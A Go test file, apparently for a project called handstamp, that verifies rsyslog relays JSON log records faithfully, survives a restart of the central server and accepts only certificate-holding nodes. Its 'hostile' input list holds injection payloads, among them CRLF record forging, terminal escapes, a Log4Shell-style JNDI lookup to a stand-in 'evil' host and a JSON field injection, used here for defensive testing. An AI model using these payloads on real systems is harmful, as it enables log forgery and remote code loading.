//go:build linux

package logs_test

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/handstamp/handstamp/internal/ecslog"
)

// A relay is a node's rsyslog and the central one, with the files of this folder, in a folder of their own.
type relay struct {
	t       testing.TB
	folder  string
	port    string
	names   *strings.Replacer // of the files, by which the shipped ones are changed
	central *exec.Cmd
}

// newRelay starts both and returns when they listen.
func newRelay(t testing.TB) *relay {
	t.Helper()
	r := &relay{t: t, folder: t.TempDir()}
	for _, name := range []string{"in", "out", "node", "central"} {
		must(t, os.Mkdir(filepath.Join(r.folder, name), 0o700))
	}
	writeCertificates(t, r.folder)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	_, r.port, err = net.SplitHostPort(l.Addr().String())
	must(t, errors.Join(err, l.Close()))
	r.names = strings.NewReplacer(
		`"/etc/handstamp/logs/`, `"`+r.folder+"/", `file="/var/log/handstamp/`, `file="`+r.folder+"/in/", `"/var/log/handstamp/`, `"`+r.folder+"/out/",
		`"20514"`, `"`+r.port+`"`, `target="logs.example.com"`, `target="127.0.0.1"`, `action.resumeInterval="5"`, `action.resumeInterval="1"`,
	)
	r.startCentral()
	// As in Debian's rsyslog.conf, what listens comes first, and then what is in rsyslog.d.
	r.start("node", `module(load="imuxsock" SysSock.Name="`+r.socket()+`")`+"\n", "node.conf", "node-file.conf")
	until(t, "the node's rsyslog listens", func() bool {
		_, err := os.Stat(r.socket())
		return err == nil
	})
	return r
}

func (r *relay) socket() string { return filepath.Join(r.folder, "log") }

// start starts an rsyslog with files of this folder behind what its main file has.
func (r *relay) start(name, main string, files ...string) *exec.Cmd {
	r.t.Helper()
	text := fmt.Sprintf("global(workDirectory=%q)\n%s", filepath.Join(r.folder, name), main)
	for _, file := range files {
		text += r.names.Replace(readFile(r.t, filepath.Join("rsyslog", file)))
	}
	config := filepath.Join(r.folder, name+".conf")
	must(r.t, os.WriteFile(config, []byte(text), 0o600))
	if said, err := exec.Command("rsyslogd", "-N1", "-f", config).CombinedOutput(); err != nil || bytes.Contains(said, []byte("error")) {
		r.t.Fatalf("%s: %v\n%s", files, err, said)
	}
	return start(r.t, filepath.Join(r.folder, name+".said"), os.Environ(), "rsyslogd", "-n", "-iNONE", "-f", config)
}

func (r *relay) startCentral() {
	r.t.Helper()
	r.central = r.start("central", "", "central.conf")
	until(r.t, "the central rsyslog listens", func() bool {
		conn, err := net.Dial("tcp", "127.0.0.1:"+r.port)
		if err == nil {
			_ = conn.Close()
		}
		return err == nil
	})
}

// arrived returns the whole lines in the central files.
func (r *relay) arrived() []string {
	r.t.Helper()
	files, err := filepath.Glob(filepath.Join(r.folder, "out", "*.jsonl"))
	must(r.t, err)
	var lines []string
	for _, file := range files {
		for line := range strings.Lines(readFile(r.t, file)) {
			if whole, isWhole := strings.CutSuffix(line, "\n"); isWhole {
				lines = append(lines, whole)
			}
		}
	}
	return lines
}

// await waits until so many lines have arrived.
func (r *relay) await(n int) []string {
	r.t.Helper()
	var lines []string
	until(r.t, fmt.Sprintf("%d lines have arrived", n), func() bool {
		lines = r.arrived()
		return len(lines) >= n
	})
	return lines
}

// handOn gives rsyslog a line as the journal does.
func (r *relay) handOn(lines ...string) {
	r.t.Helper()
	conn, err := net.Dial("unixgram", r.socket())
	must(r.t, err)
	defer conn.Close()
	for _, line := range lines {
		_, err := fmt.Fprintf(conn, "<30>%s handstamp[123]: %s", time.Now().Format(time.Stamp), line)
		must(r.t, err)
	}
}

// hostile is what strangers put where it comes into the log.
var hostile = []string{
	"eve\r\n{\"message\":\"login\",\"user.id\":\"root\"}\r\n", "\x1b[2K\x1b[1A\x07", "\u202egpj.exe\u2066", "${jndi:ldap://evil/x}", "%s%n%$!all-json%",
	"\x00\x7f\u0085\u2028", "<13>1 2026-01-01T00:00:00Z evil evil - - - {}", strings.Repeat("x", 3000), "\xff\xfe", `","event.outcome":"success","x":"`,
}

// TestRsyslogCarriesTheLog of the real program, with strangers who would like it to be another one: as many lines as were written, in
// the same order, byte for byte.
func TestRsyslogCarriesTheLog(t *testing.T) {
	t.Parallel()
	r := newRelay(t)
	s := newServer(t, filepath.Join(r.folder, "in", "handstamp.log"))
	s.live()
	for _, text := range hostile {
		header := strings.Map(printable, text)
		s.do("GET", "/api/v1/users/"+url.PathEscape(text), nil, "User-Agent", header)
		if header == text { // which the log has of each login
			s.do("POST", "/api/v1/auth_session/login", url.Values{"email": {"eve@example.com"}, "password": {text}}, "User-Agent", text)
		}
	}
	s.stop()
	records, printed := jsonLines(s.written())
	if len(records) < len(hostile) {
		t.Fatalf("the program has written %d records only", len(records))
	}
	withoutLink := slices.DeleteFunc(slices.Clone(printed), func(line string) bool { return strings.Contains(line, "/setup/") || line == "" })
	if len(printed) == len(withoutLink) {
		t.Fatal("the program has printed no link")
	}
	lines := r.await(len(records) + len(withoutLink))
	got := slices.DeleteFunc(slices.Clone(lines), func(line string) bool { return !slices.Contains(records, line) })
	if diff := cmp.Diff(records, got); diff != "" {
		t.Errorf("records (-written +arrived):\n%s", diff)
	}
	if len(lines) != len(records)+len(withoutLink) {
		t.Errorf("%d lines have arrived, of %d records and %d others", len(lines), len(records), len(withoutLink))
	}
	assertRecords(t, lines)
	if all := strings.Join(lines, "\n"); strings.Contains(all, strings.TrimPrefix(s.link, s.base)) {
		t.Error("the link that makes an administrator has left the machine")
	}
}

// printable leaves out what no client can send in a header.
func printable(c rune) rune {
	if c < ' ' || c == 0x7f {
		return -1
	}
	return c
}

// assertRecords says which lines are no records of an event.
func assertRecords(t testing.TB, lines []string) {
	t.Helper()
	for _, line := range lines {
		var record map[string]any
		if err := json.Unmarshal([]byte(line), &record); err != nil {
			t.Errorf("%v: %.200s", err, line)
			continue
		}
		if at, err := time.Parse(time.RFC3339, fmt.Sprint(record["@timestamp"])); err != nil || at.IsZero() || record["message"] == nil {
			t.Errorf("no record: %.200s", line)
		}
	}
}

// TestRsyslogFromTheJournal: a record is one record, as long as one can be and whatever is in it; what is no record becomes one.
func TestRsyslogFromTheJournal(t *testing.T) {
	t.Parallel()
	r := newRelay(t)
	var log bytes.Buffer
	logger := slog.New(ecslog.New(&log, ecslog.JSON, slog.LevelInfo))
	for _, text := range hostile {
		logger.Info(text, "url.path", text, "user_agent.original", text)
		logger.Error("panic", "error.message", text, "error.stack_trace", strings.Repeat(text+"\n\t\x1b", 16<<10/len(text)))
	}
	records := strings.Split(strings.TrimSuffix(log.String(), "\n"), "\n")
	longest := slices.MaxFunc(records, func(a, b string) int { return len(a) - len(b) })
	if len(longest) < 64<<10 {
		t.Errorf("the longest record has %d bytes, and should have as many as there can be", len(longest))
	}
	r.handOn(records...)
	r.handOn(`fatal error: "x" \ `+"\x1b[2K\té", "  http://localhost:5000/setup/c2VjcmV0", "goroutine 1 [running]:")
	lines := r.await(len(records) + 2)
	assertRecords(t, lines)
	if diff := cmp.Diff(records, lines[:len(records)]); diff != "" {
		t.Errorf("records (-written +arrived):\n%s", diff)
	}
	for i, want := range []string{`fatal error: "x" \ #033[2K#011é`, "goroutine 1 [running]:"} {
		var record map[string]string
		must(t, json.Unmarshal([]byte(lines[len(records)+i]), &record))
		if record["message"] != want {
			t.Errorf("got %q, want %q", record["message"], want)
		}
	}
}

// TestRsyslogLosesNothing when the central one is killed and comes back: what it has not acknowledged is sent again.
func TestRsyslogLosesNothing(t *testing.T) {
	t.Parallel()
	r := newRelay(t)
	lines := make([]string, 900)
	for i := range lines {
		lines[i] = fmt.Sprintf(`{"@timestamp":"2026-07-01T10:30:00.123Z","message":"request","n":%d}`, i)
	}
	r.handOn(lines[:300]...)
	r.await(100)
	must(t, r.central.Process.Signal(syscall.SIGKILL))
	_ = r.central.Wait()
	r.handOn(lines[300:600]...)
	r.startCentral()
	r.handOn(lines[600:]...)
	var got []string
	until(t, "all lines are there", func() bool {
		got = r.arrived()
		slices.Sort(got)
		got = slices.Compact(got)
		return len(got) >= len(lines)
	})
	slices.Sort(lines)
	if diff := cmp.Diff(lines, got); diff != "" {
		t.Errorf("(-written +arrived):\n%s", diff)
	}
}

// TestRsyslogKnowsWhoSends: the central one takes nothing from who has no certificate of a node.
func TestRsyslogKnowsWhoSends(t *testing.T) {
	t.Parallel()
	r := newRelay(t)
	for name, isNode := range map[string]bool{"node": true, "stranger": false, "": false} {
		config := &tls.Config{InsecureSkipVerify: true} // the server is not what this is about
		if name != "" {
			pair, err := tls.LoadX509KeyPair(filepath.Join(r.folder, name+".pem"), filepath.Join(r.folder, name+".key"))
			must(t, err)
			config.Certificates = []tls.Certificate{pair}
		}
		conn, err := tls.Dial("tcp", "127.0.0.1:"+r.port, config)
		if err != nil {
			if isNode {
				t.Errorf("%q: %v", name, err)
			}
			continue
		}
		const offer = "relp_version=0\ncommands=syslog"
		_, _ = fmt.Fprintf(conn, "1 open %d %s\n", len(offer), offer)
		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		answer := make([]byte, 64)
		n, err := conn.Read(answer)
		if isAnswered := strings.HasPrefix(string(answer[:n]), "1 rsp "); isAnswered != isNode || errors.Is(err, os.ErrDeadlineExceeded) {
			t.Errorf("%q is answered %q, %v", name, answer[:n], err)
		}
		_ = conn.Close()
	}
}
